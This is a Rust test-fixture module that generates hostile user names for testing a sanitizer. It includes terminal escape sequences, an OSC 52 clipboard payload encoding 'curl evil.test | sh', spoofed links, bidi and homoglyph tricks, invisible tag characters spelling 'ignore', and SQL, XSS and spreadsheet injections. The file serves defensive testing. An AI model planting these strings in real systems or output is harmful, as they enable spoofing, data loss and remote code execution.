//! Names that attack whoever shows them: terminals, layouts and readers' eyes.

use super::dice::Dice;

/// What each does to a program that prints it as it comes.
pub(super) const NAMES: &[&str] = &[
    // Clears the screen and writes at its top.
    "\u{1b}[2J\u{1b}[HRoot Shell",
    // Puts a command on the clipboard (OSC 52).
    "Eve\u{1b}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u{7}",
    // Renames the window (OSC 0), by the C1 form that survives filters on ESC.
    "\u{9d}0;wardroom: audit off\u{9c}Trudy",
    // A link that says one place and leads to another (OSC 8).
    "\u{1b}]8;;https://evil.test\u{1b}\\billing@example.com\u{1b}]8;;\u{1b}\\",
    // Leaves the alternate screen and lets typed keys be seen.
    "\u{1b}[?1049l\u{1b}[?1000hChuck",
    // Reads as "admin" backwards, and swaps what follows on the line.
    "nimda\u{202e}gnp.exe",
    "\u{2066}\u{202d}Support Desk\u{2069}",
    // Two that look alike: a zero-width space, and a Cyrillic а.
    "ad\u{200b}min",
    "\u{430}dmin",
    // Nothing to see: tags (U+E0000) that spell an instruction, and a blank letter.
    "Sam\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}",
    "\u{3164}",
    // Ends the line, and rewrites it from its start.
    "Craig\r\n\u{2500}\u{2500} enabled \u{2500}\u{2500}",
    "disabled\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}active  ",
    // Measured as one thing and drawn as another.
    "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈",
    "\u{fdfd}\u{fdfd}\u{fdfd}",
    // For spreadsheets, shells and markup instead of terminals.
    "=HYPERLINK(\"https://evil.test\";\"Invoice\")",
    "'; DROP TABLE users; --",
    "<script>alert(1)</script> {{7*7}} ${HOME} `id` %s%n",
];

/// The letter under [`MARKS`] marks.
const BASE: char = 'Z';
const MARKS: usize = 40;
const LONG: usize = 4_000;

/// How many there are: the listed ones, one under a heap of marks, one that is very long.
pub(super) const COUNT: usize = NAMES.len() + 2;

/// The hostile name at `at`, counted round.
pub(super) fn name(at: usize) -> String {
    match at % COUNT {
        listed if listed < NAMES.len() => NAMES[listed].to_owned(),
        marks if marks == NAMES.len() => format!("{BASE}{}algo", "\u{336}".repeat(MARKS)),
        _ => "Hubert Blaine Wolfeschlegelsteinhausen "
            .chars()
            .cycle()
            .take(LONG)
            .collect(),
    }
}

/// Any of them.
pub(super) fn any(dice: &Dice) -> String {
    name(dice.index(COUNT))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::Safe;

    #[test]
    fn every_name_needs_cleaning_or_cutting_or_is_made_for_other_programs() {
        let inert = ["\u{430}dmin", "\u{fdfd}\u{fdfd}\u{fdfd}"];
        for at in 0..COUNT {
            let name = name(at);
            let changed = Safe::new(&name).as_str() != name;
            let plain = inert.contains(&name.as_str())
                || name.len() >= LONG
                || name.chars().all(|c| (' '..='~').contains(&c));
            assert!(changed || plain, "{at}: {}", name.escape_unicode());
        }
    }

    #[test]
    fn no_name_holds_what_postgresql_cannot_store() {
        assert!((0..COUNT).all(|at| !name(at).contains('\0')));
    }
}
